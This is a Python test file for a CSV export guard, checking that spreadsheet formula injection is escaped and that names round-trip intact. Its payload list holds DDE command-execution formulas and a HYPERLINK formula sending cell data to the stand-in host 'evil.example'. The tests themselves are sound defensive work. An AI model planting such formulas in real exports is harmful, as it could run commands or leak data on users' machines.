"""What a spreadsheet makes of our lists (SECURITY 31), told by an oracle that knows nothing of our guard."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from accounts.exports.csv import as_csv, guard, unguard

PAYLOADS = [
    "=1+1", '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\ttab", "\rreturn", "\nline", " =1+1", "   +1", "\u00a0=1+1", "\u2003@x",
    "\u200b=1+1", "\ufeff=1+1", "\u2060-1", "\u00ad=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x",
    "a;=1+1", "a,=1+1", "a\t=1+1", 'a"=1+1', 'a";=1+1', "a|=1", "a\n=1+1", "a\r\n+1", "'\t=1", "''=1+1",
]  # fmt: skip
HARMLESS = [
    "Ada",
    "O'Connor",
    "'Abd al-Rahman",
    "Anne-Marie",
    "Žofie",
    "渡辺",
    "5a",
    "a = b",
    "x@y.example",
    "",
    " ",
]
cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
nasty = st.lists(
    st.sampled_from(["=", "+", "-", "@", "'", '"', ",", ";", "\t", "\r", "\n", " ", "＝", "\u200b", "a"])
)


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Would Excel, LibreOffice or Sheets see the start of a formula, however they trim or fold the cell?"""
    trimmed = cell.strip().lstrip("\u200b\u200c\u200d\u2060\ufeff\u00ad \u00a0\u2003")
    return trimmed[:1] in set("=+-@＝＋－＠﹦﹢﹣﹫") if trimmed else False


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_text_in_the_file(payload):
    (_, (cell,)) = read_back(as_csv(["name"], [[payload]]))
    assert cell == f"'{payload}"
    assert unguard(cell) == payload


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_names_stay_as_they_are(name):
    assert guard(name) == name == unguard(name)


def check_cell(text: str) -> None:
    (_, (cell, neighbour)) = read_back(as_csv(["name", "next"], [[text, "untouched"]]))
    assert not runs_in_a_spreadsheet(cell)
    assert unguard(cell) == text
    assert neighbour == "untouched"


@example("=")
@given(cells | nasty.map("".join))
@settings(max_examples=300, deadline=None)
def test_no_string_becomes_a_formula_and_every_name_comes_back(text):
    check_cell(text)


@pytest.mark.long
@given(cells | nasty.map("".join))
@settings(max_examples=20_000, deadline=None)
def test_no_string_becomes_a_formula_in_20000(text):
    check_cell(text)


@pytest.mark.requirement("D4")
def test_excel_reads_names_of_every_script():
    file = as_csv(["First name"], [["Žofie"], ["渡辺"]]).encode()
    assert file.startswith(b"\xef\xbb\xbf")
    assert file.decode("utf-8-sig").splitlines() == ['"First name"', '"Žofie"', '"渡辺"']
